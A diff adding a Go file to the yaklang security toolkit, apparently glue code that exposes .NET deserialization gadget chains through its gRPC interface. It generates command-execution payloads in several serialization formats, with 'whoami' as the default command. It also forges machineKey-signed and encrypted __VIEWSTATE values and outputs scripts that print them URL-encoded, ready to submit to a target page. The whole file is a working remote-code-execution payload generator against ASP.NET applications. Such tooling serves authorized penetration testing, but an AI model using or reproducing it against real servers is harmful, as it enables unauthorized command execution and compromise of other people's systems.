@@ -0,0 +1,185 @@
+package yakgrpc
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/yaklang/yaklang/common/utils"
+	"github.com/yaklang/yaklang/common/yakgrpc/ypb"
+	"github.com/yaklang/yaklang/common/yso"
+	"github.com/yaklang/yaklang/common/yso/dotnet"
+)
+
+// .NET 利用链复用 yso 的接口: Gadget 为利用链名称，Class 为序列化格式，ViewState 表示使用 machineKey 签名的 __VIEWSTATE
+const dotNetViewStateClass = "ViewState"
+
+var dotNetCommandOptions = []*ypb.YsoClassGeneraterOptionsWithVerbose{
+	{Key: "command", Value: "whoami", Type: string(String), KeyVerbose: "执行命令", Help: "默认使用 cmd /c 执行"},
+	{Key: "rawCommand", Value: "false", Type: string(StringBool), KeyVerbose: "不使用 cmd", Help: "开启后命令按第一个空格拆分为程序与参数，直接调用 Process.Start"},
+}
+
+var dotNetViewStateOptions = []*ypb.YsoClassGeneraterOptionsWithVerbose{
+	{Key: "validationKey", Type: string(String), KeyVerbose: "validationKey", Help: "machineKey 中的 validationKey（十六进制）"},
+	{Key: "validationAlg", Value: "HMACSHA256", Type: string(String), KeyVerbose: "validation", Help: "SHA1 / MD5 / HMACSHA256 / HMACSHA384 / HMACSHA512 / AES / 3DES"},
+	{Key: "decryptionKey", Type: string(String), KeyVerbose: "decryptionKey", Help: "machineKey 中的 decryptionKey（十六进制），.NET 4.5 之后必须填写"},
+	{Key: "decryptionAlg", Value: "AES", Type: string(String), KeyVerbose: "decryption", Help: "AES / DES / 3DES"},
+	{Key: "path", Value: "/default.aspx", Type: string(String), KeyVerbose: "页面路径", Help: "目标页面路径，.NET 4.5 之后用于派生密钥"},
+	{Key: "appPath", Value: "/", Type: string(String), KeyVerbose: "应用路径", Help: "IIS 应用的虚拟目录"},
+	{Key: "generator", Type: string(String), KeyVerbose: "__VIEWSTATEGENERATOR", Help: "页面中的 __VIEWSTATEGENERATOR，旧版本签名时必须填写"},
+	{Key: "viewStateUserKey", Type: string(String), KeyVerbose: "ViewStateUserKey", Help: "页面设置了 ViewStateUserKey 时填写（通常为 SessionID）"},
+	{Key: "legacy", Value: "false", Type: string(StringBool), KeyVerbose: "旧版本", Help: ".NET 4.5 之前或者 compatibilityMode 为 Framework20SP1/SP2"},
+	{Key: "legacyEncrypt", Value: "false", Type: string(StringBool), KeyVerbose: "旧版本加密", Help: "旧版本中 ViewStateEncryptionMode 为 Always 时开启"},
+}
+
+func dotNetGadgetOptions() []*ypb.YsoOption {
+	var opts []*ypb.YsoOption
+	for _, g := range dotnet.GetAllGadgets() {
+		opts = append(opts, &ypb.YsoOption{Name: string(g.Name), NameVerbose: string(g.Name), Help: "[.NET] " + g.Desc})
+	}
+	return opts
+}
+
+func dotNetClassOptions(gadget string) (*ypb.YsoOptionsWithVerbose, error) {
+	for _, g := range dotnet.GetAllGadgets() {
+		if !strings.EqualFold(string(g.Name), gadget) {
+			continue
+		}
+		var opts []*ypb.YsoOption
+		for _, f := range g.Formatters {
+			opts = append(opts, &ypb.YsoOption{Name: string(f), NameVerbose: string(f), Help: fmt.Sprintf("使用 %s 序列化", f)})
+			if f == dotnet.FormatterObjectState {
+				opts = append(opts, &ypb.YsoOption{Name: dotNetViewStateClass, NameVerbose: dotNetViewStateClass, Help: "使用 machineKey 签名（加密）的 __VIEWSTATE"})
+			}
+		}
+		return &ypb.YsoOptionsWithVerbose{Options: opts}, nil
+	}
+	return nil, utils.Errorf("not support gadget: %s", gadget)
+}
+
+func dotNetGeneraterOptions(req *ypb.YsoOptionsRequerstWithVerbose) *ypb.YsoClassOptionsResponseWithVerbose {
+	opts := append([]*ypb.YsoClassGeneraterOptionsWithVerbose{}, dotNetCommandOptions...)
+	if req.Class == dotNetViewStateClass {
+		opts = append(opts, dotNetViewStateOptions...)
+	}
+	return &ypb.YsoClassOptionsResponseWithVerbose{Options: opts}
+}
+
+func dotNetOptionsToMap(req *ypb.YsoOptionsRequerstWithVerbose) map[string]string {
+	params := map[string]string{}
+	for _, option := range req.Options {
+		params[option.Key] = option.Value
+	}
+	return params
+}
+
+func dotNetViewStateOptionsFromMap(params map[string]string) []dotnet.ViewStateOption {
+	return []dotnet.ViewStateOption{
+		dotnet.WithValidationKey(params["validationKey"]),
+		dotnet.WithValidationAlg(dotNetOption(params, "validationAlg", "HMACSHA256")),
+		dotnet.WithDecryptionKey(params["decryptionKey"]),
+		dotnet.WithDecryptionAlg(dotNetOption(params, "decryptionAlg", "AES")),
+		dotnet.WithTargetPath(params["path"]),
+		dotnet.WithAppPath(dotNetOption(params, "appPath", "/")),
+		dotnet.WithGenerator(params["generator"]),
+		dotnet.WithViewStateUserKey(params["viewStateUserKey"]),
+		dotnet.WithLegacy(params["legacy"] == "true"),
+		dotnet.WithLegacyEncrypt(params["legacyEncrypt"] == "true"),
+	}
+}
+
+func dotNetOption(params map[string]string, key, defaultValue string) string {
+	if v := params[key]; v != "" {
+		return v
+	}
+	return defaultValue
+}
+
+func generateDotNetPayload(req *ypb.YsoOptionsRequerstWithVerbose) (string, func(opts ...yso.MarshalOptionFun) ([]byte, error), error) {
+	params := dotNetOptionsToMap(req)
+	formatter := req.Class
+	if formatter == dotNetViewStateClass {
+		formatter = string(dotnet.FormatterObjectState)
+	}
+	payload, err := dotnet.GenerateGadget(req.Gadget, formatter, params["command"], dotnet.WithRawCommand(params["rawCommand"] == "true"))
+	if err != nil {
+		return "", nil, err
+	}
+	var ext string
+	switch req.Class {
+	case dotNetViewStateClass:
+		viewState, err := dotnet.GenerateViewState(payload, dotNetViewStateOptionsFromMap(params)...)
+		if err != nil {
+			return "", nil, err
+		}
+		payload, ext = []byte(viewState), "txt"
+	case string(dotnet.FormatterLos):
+		ext = "txt"
+	case string(dotnet.FormatterJsonNet):
+		ext = "json"
+	case string(dotnet.FormatterXaml):
+		ext = "xaml"
+	default:
+		ext = "bin"
+	}
+	return fmt.Sprintf("%s.%s", req.Gadget, ext), func(...yso.MarshalOptionFun) ([]byte, error) {
+		return payload, nil
+	}, nil
+}
+
+func generateDotNetCode(req *ypb.YsoOptionsRequerstWithVerbose) (string, error) {
+	params := dotNetOptionsToMap(req)
+	var genOpts []string
+	if params["rawCommand"] == "true" {
+		genOpts = append(genOpts, "yso.dotNetRawCommand(true)")
+	}
+	formatter := req.Class
+	if formatter == dotNetViewStateClass {
+		formatter = string(dotnet.FormatterObjectState)
+	}
+	code := fmt.Sprintf(`log.setLevel("info")
+payload, err = yso.GenerateDotNetGadget(%q, %q, %q%s)
+if err {
+    log.error("%%v", err)
+    return
+}
+`, req.Gadget, formatter, params["command"], joinDotNetOptions(genOpts))
+	if req.Class != dotNetViewStateClass {
+		return code + "println(string(payload))\n", nil
+	}
+	var vsOpts []string
+	addString := func(fun, key, defaultValue string) {
+		if v := params[key]; v != "" && v != defaultValue {
+			vsOpts = append(vsOpts, fmt.Sprintf("yso.%s(%q)", fun, v))
+		}
+	}
+	addString("viewStateValidationKey", "validationKey", "")
+	addString("viewStateValidationAlg", "validationAlg", "")
+	addString("viewStateDecryptionKey", "decryptionKey", "")
+	addString("viewStateDecryptionAlg", "decryptionAlg", "")
+	addString("viewStatePath", "path", "")
+	addString("viewStateAppPath", "appPath", "/")
+	addString("viewStateGenerator", "generator", "")
+	addString("viewStateUserKey", "viewStateUserKey", "")
+	if params["legacy"] == "true" {
+		vsOpts = append(vsOpts, "yso.viewStateLegacy(true)")
+	}
+	if params["legacyEncrypt"] == "true" {
+		vsOpts = append(vsOpts, "yso.viewStateLegacyEncrypt(true)")
+	}
+	return code + fmt.Sprintf(`viewState, err = yso.GenerateViewState(payload%s)
+if err {
+    log.error("%%v", err)
+    return
+}
+
+// 作为 __VIEWSTATE 参数发送时需要 URL 编码
+println(codec.EscapeQueryUrl(viewState))
+`, joinDotNetOptions(vsOpts)), nil
+}
+
+func joinDotNetOptions(opts []string) string {
+	if len(opts) == 0 {
+		return ""
+	}
+	return ", " + strings.Join(opts, ", ")
+}